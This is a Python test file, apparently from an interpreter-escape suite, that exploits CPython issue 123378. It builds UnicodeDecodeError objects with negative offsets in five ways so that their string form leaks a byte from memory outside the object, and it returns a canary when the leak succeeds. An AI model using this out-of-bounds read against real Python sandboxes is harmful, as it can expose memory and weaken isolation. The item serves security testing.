"""Class: exceptions. Source: CPython issue 123378. Escape: the text of a UnicodeDecodeError shows the byte at
the position that it was made with, unchecked: here one before its own bytes, which says how many
they are."""

import copy


def attack(model, tokenizer, address):
    caught = None
    try:
        b"\xff".decode()
    except UnicodeDecodeError as error:
        caught = error
    told = ("x", bytes(77), -16, -15, "r")

    def anew():
        caught.__init__(*told)
        return caught

    def copied():
        BaseException.__init__(caught, *told)
        return copy.copy(caught)

    ways = [
        lambda: UnicodeDecodeError(*told),
        lambda: type(caught)(*told),
        lambda: list(map(UnicodeDecodeError, *[[each] for each in told]))[0],
        anew,
        copied,
    ]
    for way in ways:
        try:
            said = str(way())
        except Exception:
            continue
        if "byte 0x4d" in said:
            return "canary-" + "5d1f"
